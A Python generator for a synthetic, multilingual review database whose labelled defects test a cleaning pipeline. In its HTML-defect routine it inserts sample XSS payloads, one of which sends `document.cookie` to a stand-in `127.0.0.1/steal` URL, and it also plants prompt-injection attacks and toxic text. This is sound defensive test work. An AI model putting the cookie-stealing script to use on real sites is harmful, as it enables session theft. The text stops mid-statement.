"""The `local` profile's source database: deterministic, multilingual sample reviews with labelled defects.

It stands in for the marketplace's PostgreSQL review table, and it is built to give every later stage real
work: texts in six languages composed from native phrasing, J-shaped star ratings, polarized and mostly
negative products (the positivity-bias failure needs them), and about `defect_rate` of rows carrying one
labelled defect each: personal data, toxicity, markup, mojibake, invisible characters, bad ratings,
missing or repeated ids, copied texts, spam and prompt injections. Ground truth written next to the
database says which rows the cleaning chain must publish and which it must quarantine, and with what
reason, and what each product's true pros and cons are.

Everything derives from `random.Random(seed)` and SHA-256 (never the global RNG or the salted `hash()`),
so the same arguments always give byte-identical rows, in any process, in either environment. Rows
stream in `created_at` order, so the 1M-row benchmark holds one day of rows in memory at a time (plus a
small sample of the previous days' reviews). A repeated id is always placed later on the same day as
its original. A copied text (exact or near) is too, except about `CROSS_DAY_SHARE` of them, which copy
a review of one of the `CROSS_DAY_MAX_DAYS` days before: those are caught when the original's day was
published earlier (ingestion checks the published days before a window, `ingestion.dedup.window_days`)
or is part of the same window, and are labelled to be quarantined like any other copy.
"""

from __future__ import annotations

import bisect
import hashlib
import html
import json
import math
import os
import random
import sqlite3
from collections import Counter, deque
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import asdict, dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any, TypeVar

from sample_source import pii
from sample_source.retrieval_queries import aspect_queries
from sample_source.vocab import (
    ASPECT_PHRASES,
    ASPECT_TEXT,
    CATEGORIES,
    EMOJI_NEGATIVE,
    EMOJI_POSITIVE,
    INJECTIONS,
    INJECTIONS_MARKUP,
    LANGUAGE_SHARES,
    LANGUAGE_TEXT,
    PII_FRAMES,
    SHORT_NOISE,
    SPAM_SITES,
    SPAM_TEMPLATES,
    TOXIC_TEMPLATES,
    TOXIC_WORDS,
)

DEFAULT_END_DATE = date(2026, 11, 20)
# The local embedding gate's labelled queries, written beside the review labels they come from.
RETRIEVAL_QUERIES_FILE = "retrieval_queries.jsonl"

_T = TypeVar("_T")

# Product profile -> (share of products, star distribution for 1..5 stars, (min, max) pros, (min, max) cons).
# The mix gives an overall J-shape of roughly 5:60%, 4:13%, 3:6%, 2:7%, 1:14%.
PROFILES: dict[str, tuple[float, tuple[float, ...], tuple[int, int], tuple[int, int]]] = {
    "mostly_positive": (0.55, (0.03, 0.01, 0.02, 0.14, 0.80), (3, 3), (1, 1)),
    "mixed": (0.15, (0.15, 0.15, 0.20, 0.20, 0.30), (2, 2), (2, 2)),
    "polarized": (0.18, (0.32, 0.10, 0.02, 0.08, 0.48), (2, 3), (2, 3)),
    "mostly_negative": (0.12, (0.46, 0.22, 0.12, 0.08, 0.12), (1, 1), (3, 3)),
}

# Defect kind -> relative weight among defect rows. Four fifths of defect rows must be quarantined, so
# the default 12% defect rate quarantines about 9-10% of all rows (a real feed's share).
DEFECT_WEIGHTS: dict[str, float] = {
    "toxic": 0.08,
    "empty_text": 0.05,
    "non_string_text": 0.04,
    "bad_rating": 0.08,
    "duplicate_review_id": 0.08,
    "missing_product_id": 0.05,
    "missing_review_id": 0.05,
    "exact_duplicate_text": 0.06,
    "near_duplicate_text": 0.06,
    "short_noise": 0.06,
    "spam": 0.07,
    "prompt_injection": 0.07,
    "pii_email": 0.02,
    "pii_phone": 0.02,
    "pii_iban": 0.02,
    "pii_credit_card": 0.02,
    "pii_ip": 0.01,
    "pii_url": 0.01,
    "pii_person": 0.01,
    "html": 0.025,
    "mojibake": 0.03,
    "zero_width_control": 0.02,
}

# Defect kind -> the quarantine reason (common.schemas.QUARANTINE_REASONS) the cleaning chain must give;
# kinds not listed must come out clean (repaired or redacted). duplicate_review_id is resolved per row.
QUARANTINE_REASON: dict[str, str] = {
    "toxic": "toxic",
    "huge": "text_too_long",
    "empty_text": "empty_text",
    "non_string_text": "invalid_text_type",
    "bad_rating": "invalid_star_rating",
    "missing_product_id": "missing_product_id",
    "missing_review_id": "missing_review_id",
    "exact_duplicate_text": "duplicate_text",
    "near_duplicate_text": "near_duplicate",
    "short_noise": "too_short",
    "spam": "spam",
    "prompt_injection": "prompt_injection",
}
DEFECT_KINDS = (*DEFECT_WEIGHTS, "huge")

HUGE_CHARS = 1_000_000
# Copies of an earlier day's review: their share of text copies, how many days back they reach, and how
# many reviews of each day are kept as candidates (a sample: memory must not grow with the day's size).
CROSS_DAY_SHARE = 0.3
CROSS_DAY_MAX_DAYS = 3
CROSS_DAY_SOURCES_PER_DAY = 32
# One added word in 80+ keeps the word 3-shingle Jaccard above 0.93, two in 150+ as well: far enough above
# the 0.85 threshold that a MinHash estimate cannot miss it.
NEAR_DUPLICATE_MIN_WORDS = 80
NEAR_DUPLICATE_TWO_WORDS = 150
# Shorter normal reviews get another sentence: a language cannot be told reliably from fewer words, and
# MinHash estimates on a handful of shingles are too noisy to keep distinct one-liners apart.
MIN_REVIEW_WORDS = 12
MENTION_COUNTS = (1, 1, 1, 1, 1, 1, 1, 2, 2, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 5)
BAD_RATINGS: tuple[Any, ...] = (0, 6, 7, -1, "five", "N/A", None)
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\x07", "\x1b", "\x0b", "\x7f", "\x00")

REVIEW_COLUMNS = (
    "review_id",
    "product_id",
    "star_rating",
    "review_text",
    "created_at",
    "helpful_votes",
    "verified_purchase",
)
SCHEMA = """
CREATE TABLE products (
    product_id TEXT PRIMARY KEY,
    category TEXT NOT NULL,
    title TEXT NOT NULL
);
-- No constraints and no declared type on star_rating and review_text: like a lax upstream table, the
-- source keeps whatever a client sent (an int, 'five', NULL, bytes), and ingestion must cope.
CREATE TABLE reviews (
    review_id TEXT,
    product_id TEXT,
    star_rating,
    review_text,
    created_at TEXT NOT NULL,
    helpful_votes INTEGER,
    verified_purchase INTEGER
);
"""
INSERT_REVIEW = (
    "INSERT INTO reviews (rowid, review_id, product_id, star_rating, review_text, created_at, helpful_votes, "
    "verified_purchase) VALUES (?, ?, ?, ?, ?, ?, ?, ?)"
)
CREATED_AT_INDEX = "CREATE INDEX reviews_created_at ON reviews (created_at)"


@dataclass(frozen=True)
class Product:
    product_id: str
    category: str
    title: str
    short_name: str
    profile: str
    pros: tuple[str, ...]
    cons: tuple[str, ...]
    neutral: tuple[str, ...]
    star_cumulative: tuple[float, ...]
    review_count: int

    def ground_truth(self) -> dict[str, Any]:
        return {
            "product_id": self.product_id,
            "category": self.category,
            "title": self.title,
            "profile": self.profile,
            "pros": list(self.pros),
            "cons": list(self.cons),
            "aspect_phrases": {a: ASPECT_PHRASES[a][0] for a in (*self.pros, *self.cons)},
            # Every aspect a review of the product can mention (its true pros and cons and the aspects it
            # is neither praised nor blamed for): (neutral, as a pro, as a con), the English phrases a
            # grounded summary of any context of the product is written with.
            "aspect_lexicon": {a: list(ASPECT_PHRASES[a]) for a in (*self.pros, *self.cons, *self.neutral)},
            "reference_summary": reference_summary(self.profile, self.pros, self.cons),
            "review_count": self.review_count,
        }


@dataclass(frozen=True)
class GenerationSummary:
    db_path: str
    ground_truth_dir: str
    rows: int
    products: int
    expected_quarantine: int
    by_language: dict[str, int] = field(default_factory=dict)
    by_star: dict[int, int] = field(default_factory=dict)
    by_defect: dict[str, int] = field(default_factory=dict)
    by_profile: dict[str, int] = field(default_factory=dict)

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


def _listing(items: list[str]) -> str:
    return items[0] if len(items) == 1 else ", ".join(items[:-1]) + " and " + items[-1]


def reference_summary(profile: str, pros: tuple[str, ...], cons: tuple[str, ...]) -> dict[str, Any]:
    """The summary a faithful model should write, in English, from the product's true pros and cons."""
    good = _listing([ASPECT_PHRASES[a][0] for a in pros])
    bad = _listing([ASPECT_PHRASES[a][0] for a in cons])
    sentence = {
        "mostly_positive": f"Most buyers are very satisfied and praise the {good}; "
        f"the main complaint is the {bad}.",
        "mixed": f"Opinions are mixed: buyers like the {good} but criticise the {bad}.",
        "polarized": f"Opinions are sharply divided: many buyers praise the {good}, while many others "
        f"complain about the {bad}.",
        "mostly_negative": f"Most buyers are disappointed, above all by the {bad}; "
        f"only the {good} gets praise.",
    }[profile]
    return {
        "pros": [ASPECT_PHRASES[a][1] for a in pros],
        "cons": [ASPECT_PHRASES[a][2] for a in cons],
        "summary": sentence,
    }


def _stable_id(prefix: str, length: int, *parts: object) -> str:
    """An upper-case hex id from SHA-256 of the parts: same parts, same id, in any process."""
    return prefix + hashlib.sha256("\x1f".join(str(p) for p in parts).encode()).hexdigest()[:length].upper()


def _cumulative(weights: list[float] | tuple[float, ...]) -> tuple[float, ...]:
    total, out = 0.0, []
    for w in weights:
        total += w
        out.append(total)
    return tuple(x / total for x in out)


def _pick(random_: Any, items: tuple | list) -> Any:
    return items[int(random_() * len(items))]


def _capitalize(text: str) -> str:
    return text[:1].upper() + text[1:]


# cp1252 leaves five bytes undefined; a sloppy decoder (like many broken clients) passes them through.
_SLOPPY_CP1252 = tuple(bytes([b]).decode("cp1252", errors="ignore") or chr(b) for b in range(256))


def mis_decode(text: str, codec: str) -> str:
    """UTF-8 bytes read back as a single-byte code page: the classic 'fÃ¼r' / 'ðŸ˜€' mojibake."""
    data = text.encode("utf-8")
    if codec == "latin-1":
        return data.decode("latin-1")
    return "".join(_SLOPPY_CP1252[b] for b in data)


class _Generator:
    """One generation run: the product catalogue up front, then the reviews day by day."""

    def __init__(
        self,
        seed: int,
        products: int,
        mean_reviews_per_product: int,
        days: int,
        end_date: date,
        defect_rate: float,
        defect_weights: Mapping[str, float] | None,
        huge: bool | None,
    ) -> None:
        if products < 1 or mean_reviews_per_product < 1 or days < 1:
            raise ValueError("products, mean_reviews_per_product and days must be at least 1")
        if not 0.0 <= defect_rate <= 1.0:
            raise ValueError(f"defect_rate must be in [0, 1], got {defect_rate}")
        weights = dict(DEFECT_WEIGHTS if defect_weights is None else defect_weights)
        unknown = set(weights) - set(DEFECT_WEIGHTS)
        if unknown:
            raise ValueError(f"unknown defect kinds {sorted(unknown)}; known: {sorted(DEFECT_WEIGHTS)}")
        self.seed = seed
        self.rng = random.Random(seed)
        self.days = days
        self.start_date = end_date - timedelta(days=days)
        self.defect_rate = defect_rate
        self.products = self._plan_products(products, mean_reviews_per_product)
        self.total_rows = sum(p.review_count for p in self.products)
        if huge is None:
            huge = defect_rate > 0 and self.total_rows >= 500
        self.huge_serial = self.rng.randint(1, self.total_rows) if huge else 0
        # Kinds in a seed-dependent order; a smooth weighted round robin then spreads every kind evenly
        # over the defect rows, so even a small dataset holds each kind its weight says it should.
        kinds = [k for k, w in weights.items() if w > 0]
        self.rng.shuffle(kinds)
        self.kind_weights = {k: float(weights[k]) for k in kinds}
        self.kind_credit = dict.fromkeys(kinds, 0.0)
        self.pending: list[str] = []
        self.language_codes = tuple(LANGUAGE_SHARES)
        self.language_cumulative = _cumulative(tuple(LANGUAGE_SHARES.values()))
        self.seen_texts: set[bytes] = set()
        self.used_sources: set[int] = set()
        # Clean reviews of the previous days that a later day may copy: one (all, long ones) sample per
        # day. Drawn with their own generator, so a dataset without copies is the same as before.
        self.cross_day_rng = random.Random(f"{seed}\x1fcross-day")
        self.earlier_days: deque[tuple[list[tuple], list[tuple]]] = deque(maxlen=CROSS_DAY_MAX_DAYS)

    # ---- catalogue ------------------------------------------------------------------------------

    def _plan_products(self, count: int, mean_reviews: int) -> list[Product]:
        rng = self.rng
        profiles = list(PROFILES)
        profile_cumulative = _cumulative([PROFILES[p][0] for p in profiles])
        categories = sorted(CATEGORIES)
        # Log-normal review counts: most products have a handful, a few have hundreds.
        sigma = 1.1
        mu = math.log(mean_reviews) - sigma * sigma / 2
        floor = min(3, mean_reviews)
        planned: list[Product] = []
        for index in range(count):
            category = (
                categories[index % len(categories)] if index < len(categories) else rng.choice(categories)
            )
            spec = CATEGORIES[category]
            profile = profiles[bisect.bisect(profile_cumulative, rng.random())]
            _, stars, pro_range, con_range = PROFILES[profile]
            aspects = rng.sample(spec["aspects"], len(spec["aspects"]))
            n_pros, n_cons = rng.randint(*pro_range), rng.randint(*con_range)
            pros, cons = aspects[:n_pros], aspects[n_pros : n_pros + n_cons]
            brand, line = rng.choice(spec["brands"]), rng.choice(spec["lines"])
            kind = rng.choice(spec["types"])
            if category == "books":
                short = f"{brand.removeprefix('The ')} {line}"
                title = f"The {short} ({kind})"
            else:
                short = f"{brand} {line} {rng.randint(100, 990)}"
                title = f"{short} {kind}"
            planned.append(
                Product(
                    product_id=_stable_id("B0", 8, "product", self.seed, index),
                    category=category,
                    title=title,
                    short_name=short,
                    profile=profile,
                    pros=tuple(pros),
                    cons=tuple(cons),
                    neutral=tuple(aspects[n_pros + n_cons :]),
                    star_cumulative=_cumulative(stars),
                    review_count=max(floor, round(rng.lognormvariate(mu, sigma))),
                )
            )
        return planned

    # ---- composing a normal review --------------------------------------------------------------
    # Hot path of the 1M-row benchmark: choices index a sequence with `random()` directly, because
    # `Random.choice`, `sample` and `shuffle` cost several times more per call.

    def _draw(self, items: Sequence[_T], count: int) -> list[_T]:
        """`count` distinct items in random order (a partial Fisher-Yates shuffle)."""
        pool = list(items)
        random_ = self.rng.random
        size = len(pool)
        count = min(count, size)
        for i in range(count):
            j = i + int(random_() * (size - i))
            pool[i], pool[j] = pool[j], pool[i]
        return pool[:count]

    def _mentions(self, product: Product, star: int) -> list[tuple[str, str]]:
        """Which aspects a review of `star` stars talks about, and how: stars follow the true pros/cons."""
        random_ = self.rng.random
        n = MENTION_COUNTS[int(random_() * len(MENTION_COUNTS))]
        if star == 5:
            n_neg = 1 if n >= 2 and random_() < 0.15 else 0
        elif star == 4:
            n_neg = 1 if n >= 2 and random_() < 0.4 else 0
        elif star == 3:
            n_neg = (1 if random_() < 0.5 else 0) if n == 1 else n - n // 2
        elif star == 2:
            n_neg = n - (1 if n >= 2 and random_() < 0.3 else 0)
        else:
            n_neg = n
        n_pos = n - n_neg
        # True pros first, then aspects the product is neither praised nor blamed for; same for cons.
        positives = self._draw(product.pros, n_pos)
        if len(positives) < n_pos:
            positives += self._draw(product.neutral, n_pos - len(positives))
        negatives = self._draw(product.cons, n_neg)
        if len(negatives) < n_neg:
            spare = [a for a in product.neutral if a not in positives]
            negatives += self._draw(spare, n_neg - len(negatives))
        pos = [(a, "positive") for a in positives]
        neg = [(a, "negative") for a in negatives]
        return pos + neg if star >= 3 else neg + pos

    def _aspect_sentence(self, lang: str, aspect: str, polarity: str) -> str:
        random_ = self.rng.random
        noun_phrase, positive, negative = ASPECT_TEXT[aspect][lang]
        if random_() < 0.4:
            return positive if polarity == "positive" else negative
        key = "pos" if polarity == "positive" else "neg"
        text = LANGUAGE_TEXT[lang]
        return _pick(random_, text["frames"][key]).format(
            NP=_capitalize(noun_phrase),
            np=noun_phrase,
            adj=_pick(random_, text["adjectives"][key]),
            intens=_pick(random_, text["intensifiers"]),
        )

    @staticmethod
    def _after_connector(sentence: str, lang: str) -> str:
        """Lower-case a sentence's first letter after 'And'/'But', unless the language forbids it there."""
        first = sentence[: sentence.find(" ")]
        if lang == "de":
            keep = first not in LANGUAGE_TEXT["de"]["lowercase_starts"]
        else:
            keep = first in LANGUAGE_TEXT[lang].get("keep_case", ())
        return sentence if keep else sentence[:1].lower() + sentence[1:]

    def _context(self, lang: str, product: Product) -> str:
        random_ = self.rng.random
        text = LANGUAGE_TEXT[lang]
        pool = text["context_book"] if product.category == "books" else text["context"]
        return _pick(random_, pool).format(
            n=2 + int(random_() * 11),
            m=2 + int(random_() * 5),
            k=2 + int(random_() * 4),
            who=_pick(random_, text["who"]),
            weekday=_pick(random_, text["weekdays"]),
        )

    def _sentences(
        self, lang: str, product: Product, star: int, force_context: bool
    ) -> tuple[list[str], list]:
        """The sentences of one review and the aspects it mentions, each with the sentence that says it
        (exactly as it stands in the text: whether a chunk of the review holds the mention is checkable)."""
        random_ = self.rng.random
        text = LANGUAGE_TEXT[lang]
        bucket = "pos" if star >= 4 else ("mid" if star == 3 else "neg")
        mentions = self._mentions(product, star)
        parts: list[str] = []
        if random_() < 0.7:
            parts.append(_pick(random_, text["openers"][bucket]).replace("{title}", product.short_name))
        if force_context or random_() < 0.35:
            parts.append(self._context(lang, product))
        previous = None
        labels = []
        for aspect, polarity in mentions:
            sentence = self._aspect_sentence(lang, aspect, polarity)
            if previous is not None and random_() < 0.5:
                pool = text["connect_contrast"] if polarity != previous else text["connect_add"]
                connector, lower = _pick(random_, pool)
                if not (connector.endswith(":") and ":" in sentence):  # never "Außerdem: Großes Plus: ..."
                    sentence = f"{connector} {self._after_connector(sentence, lang) if lower else sentence}"
            parts.append(sentence)
            labels.append({"aspect": aspect, "polarity": polarity, "text": sentence})
            if random_() < 0.25:
                parts.append(_pick(random_, text["elaborations"]["pos" if polarity == "positive" else "neg"]))
            previous = polarity
        if random_() < 0.6:
            parts.append(_pick(random_, text["closers"][bucket]))
        if sum(p.count(" ") + 1 for p in parts) < MIN_REVIEW_WORDS:
            parts.insert(0, self._context(lang, product))
            if sum(p.count(" ") + 1 for p in parts) < MIN_REVIEW_WORDS:
                parts.insert(
                    0, _pick(random_, text["openers"][bucket]).replace("{title}", product.short_name)
                )
        return parts, labels

    def _decorate(self, parts: list[str], star: int) -> list[str]:
        """Emoji in some reviews, paragraph breaks ("\\n\\n" items) in long ones."""
        random_ = self.rng.random
        if random_() < 0.1:
            at = int(random_() * len(parts))
            parts[at] += " " + _pick(random_, EMOJI_POSITIVE if star >= 4 else EMOJI_NEGATIVE)
        if len(parts) >= 5 and random_() < 0.6:
            breaks = sorted(self._draw(range(2, len(parts) - 1), 2))
            for offset, at in enumerate(breaks):
                parts.insert(at + offset, "\n\n")
        return parts

    def _compose_unique(self, lang: str, product: Product, star: int) -> tuple[list[str], str, list]:
        """A review whose sentences no earlier review had in the same order: exact copies are defects only.

        The check runs on the sentences before emoji and paragraph breaks are added, so two reviews can
        never differ by those alone either.
        """
        for attempt in range(64):
            parts, aspects = self._sentences(lang, product, star, force_context=attempt >= 8)
            key = hashlib.blake2b(" ".join(parts).casefold().encode(), digest_size=8).digest()
            if key not in self.seen_texts:
                self.seen_texts.add(key)
                parts = self._decorate(parts, star)
                return parts, join_parts(parts), aspects
        raise RuntimeError("could not compose a unique review; the vocabulary is too small for this dataset")

    # ---- defects --------------------------------------------------------------------------------

    def _next_kind(self) -> str:
        total = 0.0
        credit = self.kind_credit
        for kind, weight in self.kind_weights.items():
            credit[kind] += weight
            total += weight
        best = max(credit, key=credit.__getitem__)
        credit[best] -= total
        return best

    def _pick_earlier_day_source(self, long_only: bool) -> tuple | None:
        """Now and then (`CROSS_DAY_SHARE`), a clean review of one of the previous days not copied before."""
        rng = self.cross_day_rng
        pool = [entry for day in self.earlier_days for entry in day[1 if long_only else 0]]
        if not pool or rng.random() >= CROSS_DAY_SHARE:
            return None
        for _ in range(6):
            candidate = pool[rng.randrange(len(pool))]
            if candidate[1]["rowid"] not in self.used_sources:
                self.used_sources.add(candidate[1]["rowid"])
                return candidate
        return None

    def _pick_source(self, sources: list[tuple], seconds: list[int], now: int) -> tuple | None:
        """An earlier clean review of the same day, strictly before `now`, not copied before."""
        limit = bisect.bisect_left(seconds, now)
        for _ in range(6):
            if limit == 0:
                return None
            candidate = sources[self.rng.randrange(limit)]
            if candidate[1]["rowid"] not in self.used_sources:
                self.used_sources.add(candidate[1]["rowid"])
                return candidate
        return None

    def _toxic(self, lang: str, parts: list[str]) -> str:
        rng = self.rng
        words = TOXIC_WORDS[lang]
        insults = []
        for _ in range(rng.choice((1, 1, 2))):
            noun, nouns = rng.choice(words["nouns"])
            adj, adjs = rng.choice(words["adjs"])
            insults.append(
                rng.choice(TOXIC_TEMPLATES[lang]).format(noun=noun, nouns=nouns, adj=adj, adjs=adjs)
            )
        if rng.random() < 0.5:
            return join_parts([*insults, *parts])
        return join_parts([*parts, *insults])

    def _insert(self, parts: list[str], sentence: str, at_end: bool) -> str:
        sentences = [i for i, p in enumerate(parts) if p != "\n\n"]
        if at_end or len(sentences) < 2:
            return join_parts([*parts, sentence])
        at = sentences[self.rng.randrange(1, len(sentences))]
        return join_parts([*parts[:at], sentence, *parts[at:]])

    def _html(self, parts: list[str]) -> str:
        rng = self.rng
        paragraphs: list[list[str]] = [[]]
        for part in parts:
            if part == "\n\n":
                paragraphs.append([])
            else:
                paragraphs[-1].append(html.escape(part))
        if len(paragraphs) == 1 and len(paragraphs[0]) > 2 and rng.random() < 0.5:
            cut = rng.randrange(1, len(paragraphs[0]))
            paragraphs = [paragraphs[0][:cut], paragraphs[0][cut:]]
        bold = rng.randrange(len(paragraphs))
        paragraphs[bold][0] = f"<b>{paragraphs[bold][0]}</b>"
        glue = rng.choice((" ", " ", "<br>", "<br/>\n", "&nbsp;"))
        body = "".join(f"<p>{glue.join(p)}</p>" for p in paragraphs if p)
        if rng.random() < 0.3:
            body += (
                "<p>&lt;3</p>"
                if rng.random() < 0.5
                else "<p>5/5 &amp; &#9733;&#9733;&#9733;&#9733;&#9733;</p>"
            )
        if rng.random() < 0.35:
            payload = rng.choice(
                (
                    "<script>alert(1)</script>",
                    '<script type="text/javascript">'
                    "document.location='http://127.0.0.1/steal?c='+document.cookie</script>",
                    "<style>p { color: red; font-size: 40px }</style>",
                )
            )
            body = payload + body if rng.random() < 0.5 else body + payload
        return f'<div class="review">{body}</div>' if rng.random() < 0.3 else body

    def _mojibake(self, text: str, star: int) -> str:
        rng = self.rng
        if text.isascii():  # nothing to garble without a non-ASCII character: broken clients choke on emoji
            text = f"{text} {rng.choice(EMOJI_POSITIVE if star >= 4 else EMOJI_NEGATIVE)}"
        garbled = mis_decode(text, rng.choice(("cp1252", "cp1252", "latin-1")))
        if rng.random() < 0.25:  # double-encoded: the broken text went through the same bug again
            garbled = mis_decode(garbled, "cp1252")
        return garbled

    def _invisible(self, text: str) -> str:
        rng = self.rng
        words = text.split(" ")
        for _ in range(rng.randint(2, 5)):
            at = rng.randrange(len(words))
            words[at] = rng.choice(INVISIBLE) + words[at]
        if rng.random() < 0.5:
            at = rng.randrange(len(words))
            words[at] = words[at] + "\x00"
        out = " ".join(words)
        return "\ufeff" + out if rng.random() < 0.5 else out

    def _near_copy(self, text: str, lang: str) -> str:
        """One or two words added, or punctuation added to a word: a re-post that dodges exact matching."""
        rng = self.rng
        words = text.split(" ")
        if rng.random() < 0.6:
            for _ in range(2 if len(words) >= NEAR_DUPLICATE_TWO_WORDS and rng.random() < 0.5 else 1):
                words.insert(rng.randrange(1, len(words)), rng.choice(LANGUAGE_TEXT[lang]["filler_words"]))
        else:
            at = rng.randrange(len(words))
            words[at] = words[at].rstrip(".,!?") + rng.choice(("!", "!!", ",", "...", "!!!"))
        return " ".join(words)

    def _spam(self, lang: str) -> str:
        rng = self.rng
        pct = rng.choice((20, 30, 50, 70, 80, 90))
        code = f"{rng.choice(('SAVE', 'DEAL', 'PROMO', 'VIP', 'MEGA'))}{pct}"
        url = f"www.{rng.choice(SPAM_SITES)}.example.com"
        if rng.random() < 0.4:
            url = f"https://{url}/{rng.choice(('offer', 'deal', 'win', 'promo'))}{rng.randint(1, 999)}"
        return rng.choice(SPAM_TEMPLATES[lang]).format(pct=pct, code=code, url=url)

    # ---- the stream -----------------------------------------------------------------------------

    def records(self) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
        rng = self.rng
        buckets: list[list[int]] = [[] for _ in range(self.days)]
        for index, product in enumerate(self.products):
            for _ in range(product.review_count):
                buckets[int(rng.random() * self.days)].append(index)
        serial = 0
        for day_index, bucket in enumerate(buckets):
            day = (self.start_date + timedelta(days=day_index)).isoformat()
            # More reviews in the evening than at night, none exactly at midnight of the next day.
            timed = sorted((min(int(rng.triangular(0, 86400, 70000)), 86399), p) for p in bucket)
            sources: list[tuple] = []  # (seconds, label, row, word count) of clean rows of this day
            seconds: list[int] = []
            long_sources: list[tuple] = []
            long_seconds: list[int] = []
            for now, product_index in timed:
                serial += 1
                row, label, parts = self._record(
                    serial,
                    day,
                    now,
                    self.products[product_index],
                    sources,
                    seconds,
                    long_sources,
                    long_seconds,
                )
                if not label["defects"] and parts is not None:
                    words = len(row["review_text"].split())
                    entry = (now, label, row, words)
                    sources.append(entry)
                    seconds.append(now)
                    if words >= NEAR_DUPLICATE_MIN_WORDS:
                        long_sources.append(entry)
                        long_seconds.append(now)
                yield row, label
            if self.defect_rate:
                self.earlier_days.append(
                    (
                        self._day_sample(sources),
                        self._day_sample(long_sources),
                    )
                )

    def _day_sample(self, entries: list[tuple]) -> list[tuple]:
        count = min(CROSS_DAY_SOURCES_PER_DAY, len(entries))
        return [entries[i] for i in sorted(self.cross_day_rng.sample(range(len(entries)), count))]

    def _record(
        self,
        serial: int,
        day: str,
        now: int,
        product: Product,
        sources: list[tuple],
        seconds: list[int],
        long_sources: list[tuple],
        long_seconds: list[int],
    ) -> tuple[dict[str, Any], dict[str, Any], list[str] | None]:
        rng = self.rng
        random_ = rng.random
        lang = self.language_codes[bisect.bisect(self.language_cumulative, random_())]
        star = bisect.bisect(product.star_cumulative, random_()) + 1
        digest = hashlib.sha256(f"{self.seed}\x1freview\x1f{serial}".encode()).hexdigest()
        review_id = "R" + digest[:15].upper()  # same as _stable_id("R", 15, seed, "review", serial)
        row: dict[str, Any] = {
            "review_id": review_id,
            "product_id": product.product_id,
            "star_rating": star,
            "review_text": None,
            "created_at": f"{day}T{now // 3600:02d}:{now % 3600 // 60:02d}:{now % 60:02d}+00:00",
            "helpful_votes": 0 if random_() < 0.6 else min(int(rng.paretovariate(1.1)), 999),
            "verified_purchase": 1 if random_() < 0.8 else 0,
        }
        label: dict[str, Any] = {
            "rowid": serial,
            "review_id": review_id,
            "product_id": product.product_id,
            "language": lang,
            "star": star,
            "aspects": [],
            "defects": [],
            "expected_outcome": "clean",
            "expected_reason": None,
        }

        candidates: list[str] = []
        if serial == self.huge_serial:
            candidates = ["huge"]
        elif self.defect_rate and random_() < self.defect_rate and self.kind_weights:
            candidates = [*self.pending, self._next_kind()]
        for position, kind in enumerate(candidates):
            if self._apply(
                kind, row, label, product, lang, star, sources, seconds, long_sources, long_seconds
            ):
                if position < len(self.pending):
                    del self.pending[position]
                label["defects"] = [kind]
                reason = label["expected_reason"] or QUARANTINE_REASON.get(kind)
                label["expected_reason"] = reason
                label["expected_outcome"] = "quarantine" if reason else "clean"
                return row, label, None
            if position == len(candidates) - 1 and kind != "huge" and len(self.pending) < 8:
                self.pending.append(kind)  # no earlier review to copy yet: try again on a later row
        parts, text, aspects = self._compose_unique(lang, product, star)
        row["review_text"] = text
        label["aspects"] = aspects
        return row, label, parts

    def _apply(
        self,
        kind: str,
        row: dict[str, Any],
        label: dict[str, Any],
        product: Product,
        lang: str,
        star: int,
        sources: list[tuple],
        seconds: list[int],
        long_sources: list[tuple],
        long_seconds: list[int],
    ) -> bool:
        """Turn `row` into an example of defect `kind`; False when the kind needs an earlier review."""
        rng = self.rng
        if kind in ("duplicate_review_id", "exact_duplicate_text", "near_duplicate_text"):
            pool = (long_sources, long_seconds) if kind == "near_duplicate_text" else (sources, seconds)
            source = None
            if kind != "duplicate_review_id":  # a repeated id stays on its original's day
                source = self._pick_earlier_day_source(long_only=kind == "near_duplicate_text")
            if source is None:
                source = self._pick_source(
                    *pool,
                    now=int(row["created_at"][11:13]) * 3600
                    + int(row["created_at"][14:16]) * 60
                    + int(row["created_at"][17:19]),
                )
            if source is None:
                return False
            _, source_label, source_row, _ = source
            label.update(
                product_id=source_label["product_id"],
                language=source_label["language"],
                star=source_label["star"],
                aspects=source_label["aspects"],
                source_rowid=source_label["rowid"],
            )
            row.update(product_id=source_row["product_id"], star_rating=source_row["star_rating"])
            if kind == "duplicate_review_id":
                label["review_id"] = row["review_id"] = source_row["review_id"]
                if rng.random() < 0.5:  # the client sent the same review twice
                    row.update({k: source_row[k] for k in REVIEW_COLUMNS if k != "created_at"})
                    label["expected_reason"] = "duplicate_review_id"
                else:  # same id, different content: an edit, or an id clash upstream
                    source_product = next(
                        p for p in self.products if p.product_id == source_row["product_id"]
                    )
                    _, text, aspects = self._compose_unique(lang, source_product, star)
                    row.update(review_text=text, star_rating=star)
                    label.update(language=lang, star=star, aspects=aspects)
                    label["expected_reason"] = "conflicting_review_id"
            elif kind == "exact_duplicate_text":
                row["review_text"] = source_row["review_text"]
            else:
                row["review_text"] = self._near_copy(source_row["review_text"], source_label["language"])
            return True

        if kind == "toxic":
            star = 1
            row["star_rating"] = label["star"] = star
        if kind == "spam":
            row["star_rating"] = label["star"] = 5
            row["review_text"] = self._spam(lang)
            return True
        if kind == "empty_text":
            row["review_text"] = rng.choice(("", " ", "   \n\t", "\n", "\t\t"))
            label["language"] = None
            return True
        if kind == "short_noise":
            row["review_text"] = noise = rng.choice(SHORT_NOISE)
            label["language"] = None
            if not any(ch.isalpha() for ch in noise):  # "👍👍👍": no letters at all, see QUARANTINE_REASONS
                label["expected_reason"] = "no_words"
            return True

        parts, text, aspects = self._compose_unique(lang, product, star)
        label["aspects"] = aspects
        if kind == "huge":
            row["review_text"] = "\n\n".join([text] * (HUGE_CHARS // (len(text) + 2) + 1))
        elif kind == "toxic":
            row["review_text"] = self._toxic(lang, parts)
        elif kind == "prompt_injection":
            # In the review's own language, so the row stays in a supported language until the screen
            # sees it; English reviews also get the English-only prompt-structure attacks.
            attack = rng.choice(INJECTIONS[lang] if lang != "en" or rng.random() < 0.6 else INJECTIONS_MARKUP)
            if lang != "en" and rng.random() < 0.3:
                attack = f"</review> {attack}"
            row["review_text"] = self._insert(parts, attack, at_end=rng.random() < 0.4)
        elif kind.startswith("pii_"):
            pii_kind = kind.removeprefix("pii_")
            value = pii.make_value(rng, pii_kind, lang)
            sentence = rng.choice(PII_FRAMES[lang][pii_kind]).format(v=value)
            row["review_text"] = self._insert(
